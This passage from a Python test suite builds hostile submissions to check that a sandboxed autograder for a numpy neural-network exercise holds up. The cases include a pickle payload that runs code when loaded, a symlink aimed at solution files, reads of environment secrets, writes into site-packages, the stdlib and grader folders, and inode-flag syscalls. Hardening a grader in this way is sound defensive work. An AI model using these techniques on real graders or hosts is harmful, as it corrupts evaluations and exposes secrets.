        .folder("nan-inf", (47,)),
        # 48: shapes that broadcast against the answer
        Source()
        .patch(bn, sig, "return np.array([2.0]) if x.ndim == 2 else np.zeros(0)")
        .folder("broadcasts", (48,)),
        # 49: the right values in the wrong dtype: float16 (2-D), bool (4-D); int for dropout
        Source()
        .patch(
            bn,
            sig,
            """
            out = _real_BatchNormalization_forward(self, x, train_flg)
            return out.astype(np.float16) if x.ndim == 2 else out.astype(bool)
        """,
        )
        .folder("wrong-dtype", (49,)),
        # 50: a hand-made array whose shape claims 10**12 elements (forged transport)
        Source()
        .at_import(
            "layers.py",
            dedent("""
            _NODE = ["<f8", [10**12]]
            def _write_blob(path):
                with open(path, "wb") as fh:
                    fh.write(b"\\0" * 64)
        """)
            + dedent(forged_dump),
        )
        .folder("forged-array", (50,)),
        # 51: the output file as a symbolic link to a secret, or as a FIFO
        Source()
        .at_import(
            "layers.py",
            dedent(f"""
            _NODE = ["<f8", [3]]
            def _write_blob(path):
                try:
                    os.symlink({str(t.repo / "solutions/optim_reg/layers.py")!r}, path)
                except OSError:
                    os.mkfifo(path)
        """)
            + dedent(forged_dump),
        )
        .folder("blob-symlink", (51,)),
        # 52: a pickle payload that would create a canary in the grader if unpickled
        Source()
        .at_import(
            "layers.py",
            dedent(f"""
            class _Evil:
                def __reduce__(self):
                    return (open, ({str(t.canary / "unpickled")!r}, "w"))
            _NODE = ["|O", [1]]
            def _write_blob(path):
                with open(path, "wb") as fh:
                    np.save(fh, np.array([_Evil()], dtype=object), allow_pickle=True)
        """)
            + dedent(forged_dump),
        )
        .folder("pickle-payload", (52,)),
        # 53: values that are no array at all: a generator, a set, a dict with int keys
        Source()
        .patch(
            bn,
            sig,
            """
            if x.ndim == 4:
                return {1: x}
            return (v for v in x) if train_flg else {1.0, 2.0}
        """,
        )
        .folder("odd-objects", (53,)),
    ]


def mutates_inputs() -> Attacker:
    """54: zero the caller's parameters *and* gradients (a grader computing its answer from
    the same arrays would agree); and mutate the inputs after a correct update."""
    return (
        Source()
        .patch(
            "SGD.update",
            "params, grads",
            """
                for key in params:
                    params[key][...] = 0.0
                    grads[key][...] = 0.0
            """,
        )
        .patch(
            "Momentum.update",
            "params, grads",
            """
                _real_Momentum_update(self, params, grads)
                for key in grads:
                    grads[key][...] = 0.0
            """,
        )
        .patch(
            "BatchNormalization.forward",
            "x, train_flg=True",
            """
                out = _real_BatchNormalization_forward(self, x, train_flg)
                x[...] = 0.0
                return out
            """,
        )
        .folder("mutates-inputs", (54,))
    )


# -------------------------------------------------- nondeterminism, state, environment


def nondeterministic(name: str) -> Attacker:
    """55: a Dropout drawing its mask from fresh OS entropy (no seed can fix it)."""
    return (
        Source()
        .patch(
            "Dropout.forward",
            "x, train_flg=True",
            """
        if not train_flg:
            return x.copy()
        self.mask = np.random.default_rng().random(x.shape) >= self.dropout_ratio
        return x * self.mask / (1.0 - self.dropout_ratio)
    """,
        )
        .folder(name, (55,))
    )


def global_state() -> Attacker:
    """57: change NumPy's error handling, its RNG, warnings, printing, modules and the
    environment in every call; fail if a previous call's change is still there."""
    return sgd(
        """
        import os, sys, warnings
        import numpy as np
        def change():
            leaked = [name for name, seen in (
                ("seterr", np.geterr()["divide"] == "raise"),
                ("warnings", any(f[0] == "error" for f in warnings.filters)),
                ("env", "LEAKED_STATE" in os.environ),
                ("modules", sys.modules.get("fractions", 0) is None),
                ("print", np.get_printoptions()["precision"] == 1),
                ("seed", np.random.get_state()[1][0] == 12345),
            ) if seen]
            if leaked:
                raise RuntimeError(f"state leaked from an earlier call: {leaked}")
            np.seterr(all="raise")
            warnings.simplefilter("error")
            os.environ["LEAKED_STATE"] = "1"
            sys.modules["fractions"] = None
            np.set_printoptions(precision=1)
            np.random.seed(12345)
        if not getattr(self, "_changed", False):  # once per call (the first step)
            self._changed = True
            change()
    """,
        then=True,
    ).folder("global-state", (57,))


def environment(t: Target) -> list[Attacker]:
    return [
        # 58: what the environment holds
        sgd(f"""
            import os
            _report(keys=sorted(os.environ),
                    secret=any({t.secret!r} in v for v in os.environ.values()))
        """).folder("reads-env", (58,)),
        # 59: HOME, cwd, TMPDIR and caches: plant files, fail if a previous call's are there
        Source()
        .patch(
            "SGD.update",
            "params, grads",
            """
            import os
            def plant():
                planted = [os.path.expanduser("~/.cache/torch/poison"), "poison.txt",
                           os.path.join(os.environ.get("TMPDIR", "/tmp"), "poison2.txt")]
                seen = [p for p in planted if os.path.exists(p)]
                if seen:
                    raise RuntimeError(f"files of an earlier call are still there: {seen}")
                for path in planted:
                    os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
                    with open(path, "w") as fh:
                        fh.write("poison")
            if not getattr(self, "_planted", False):  # once per call (the first step)
                self._planted = True
                plant()
        """,
            then=True,
        )
        .patch(
            "Momentum.update",
            "params, grads",
            """
            import os, sys
            home = os.environ.get("HOME")
            _report(home=home[-60:], same=home == os.getcwd() == os.environ.get("TMPDIR")
                    == os.path.expanduser("~"), bytecode=sys.dont_write_bytecode,
                    cache=_try(lambda: os.listdir(os.path.expanduser("~/.cache"))))
        """,
        )
        .folder("home-cache", (59,)),
    ]


def grader_folders(t: Target) -> list[Attacker]:
    site = str(t.site)
    repo = str(t.repo)
    return [
        # 60: poison site-packages and the kit for later runs
        sgd(f"""
            import os, sys
            def write(path, text="# written by an adversary\\n"):
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "a") as fh:
                    fh.write(text)
            _report(
                pth=_try(lambda: write({site!r} + "/zz-adversary-evil.pth")),
                pyc=_try(lambda: write({site!r} + "/numpy/__pycache__/zz-evil.pyc")),
                numpy=_try(lambda: write({site!r} + "/numpy/__init__.py")),
                stdlib=_try(lambda: write(os.path.dirname(os.__file__) + "/zz-evil.py")),
                kit=_try(lambda: write({repo!r} + "/autograder/__pycache__/zz-evil.pyc")),
                probes=_try(lambda: write({repo!r} + "/autograder/probes/optim_reg.py")),
                dont_write_bytecode=sys.dont_write_bytecode,
            )
        """).folder("poisons-site", (60,)),
        # 61: change its own submission after the upload
        sgd("""
            import os
            here = os.path.dirname(os.path.abspath(__file__))
            def append():
                with open(__file__, "a") as fh:
                    fh.write("# changed after the upload\\n")
            def create():
                with open(os.path.join(here, "new.py"), "w") as fh:
                    fh.write("x = 1\\n")
            _report(append=_try(append), create=_try(create),
                    unlink=_try(lambda: os.unlink(os.path.join(here, "layers.py"))),
                    rename=_try(lambda: os.rename(__file__, __file__ + ".bak")),
                    pycache=_try(lambda: os.mkdir(os.path.join(here, "__pycache__"))))
        """).folder("edits-itself", (61,)),
        # 62: inode flags and attributes, on its own (read-only) module, on a scratch file
        # and on a file outside the sandbox (FS_IOC_SETFLAGS, FS_IOC_FSSETXATTR, file_setattr)
        sgd(f"""
            import ctypes, fcntl, os, struct
            libc = ctypes.CDLL(None, use_errno=True)
            def flags(path, request, mode=os.O_RDONLY):
                fd = os.open(path, mode | os.O_CREAT if mode else mode, 0o600)
                try:
                    fcntl.ioctl(fd, request, bytearray(32))
                finally:
                    os.close(fd)
            def file_setattr(path):  # file_setattr(dfd, path, attr, size, at_flags), Linux 6.17
                attr = ctypes.create_string_buffer(32)
                if libc.syscall(469, -100, path.encode(), attr, 24, 0) < 0:
                    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            outside = {str(t.canary / "existing.txt")!r}
            _report(own=_try(lambda: flags(__file__, 0x40086602)),
                    scratch=_try(lambda: flags("mine.txt", 0x40086602, os.O_WRONLY)),
                    fsxattr=_try(lambda: flags("mine.txt", 0x401C5820, os.O_WRONLY)),
                    outside=_try(lambda: flags(outside, 0x40086602)),
                    file_setattr=_try(lambda: file_setattr(outside)))
        """).folder("sets-inode-flags", (62,)),
    ]


# ---------------------------------------------------------------------------- the batch


def correct(name: str) -> Attacker:
    return Source().folder(name, ())


def attackers(t: Target, *, signals: bool = True) -> list[Attacker]:
    """Every attacker of the main batch, between two correct submissions (first and last
    by name: ``aaa-correct`` is graded before them, ``zzz-correct`` after)."""
    crowd = [
        correct("aaa-correct"),
        *faking_results(t),
        *hidden_material(t),
        hardcoded_public_answers(),
        *denial_of_service(t),
        *crashes(),
        *archives(t),
        symlinked_folder(),
        shadowing(t),
        *odd_ids(),
        *output_tricks(t),
        mutates_inputs(),
        nondeterministic("unseeded-dropout-a"),
        nondeterministic("unseeded-dropout-b"),
        global_state(),
        *environment(t),
        *grader_folders(t),
        correct("zzz-correct"),
    ]
    if signals:
        crowd.append(signals_at_the_grader(t))
    names = [a.name for a in crowd]
    assert len(set(names)) == len(names), "two attackers share a name"
    return crowd
